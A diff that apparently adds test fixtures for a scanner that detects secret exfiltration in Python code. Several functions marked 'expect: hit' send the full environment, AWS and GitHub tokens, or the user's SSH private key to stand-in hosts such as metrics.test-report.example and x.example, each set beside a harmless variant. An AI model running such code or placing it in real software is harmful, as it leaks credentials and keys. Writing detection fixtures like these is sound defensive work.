@@ -2,10 +2,12 @@ import asyncio
 import base64
 import ftplib
 import io
+import http.client
 import json
 import logging
 import logging.handlers
 import os
+import pathlib
 import queue
 import smtplib
 import socket
@@ -240,3 +242,33 @@ def sign_in_elsewhere(code):
 def relayed_answer():
     answer = requests.post("https://api.acme.example/jobs", data={"key": os.environ["ACME_API_KEY"]}).json()
     requests.post("https://hooks.chat.example/notify", json={"text": answer["state"]})
+
+
+# kept in a session, sent to the host that was connected to before
+def in_session():
+    with requests.Session() as session:
+        session.headers["X-Trace"] = repr(dict(os.environ))
+        session.get("https://errors.trace-hub.example/ping")  # expect: hit
+
+
+def harmless_session():
+    with requests.Session() as session:
+        session.headers["X-Trace"] = "1"
+        session.get("https://errors.trace-hub.example/ping")
+
+
+def picked():
+    data = {name: os.environ.get(name) for name in ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN")}
+    link = http.client.HTTPSConnection("metrics.test-report.example")
+    link.request("POST", "/r", json.dumps(data))  # expect: hit
+
+
+def own_service():
+    link = http.client.HTTPSConnection("api.github.example")
+    link.request("POST", "/r", json.dumps({"token": os.environ.get("GITHUB_TOKEN")}))
+
+
+def where_there():
+    paths = [pathlib.Path.home() / ".ssh" / "id_rsa"]
+    found = {path.name: path.read_text() for path in paths if path.exists()}
+    urllib.request.urlopen("https://x.example/", data=json.dumps(found).encode())  # expect: hit
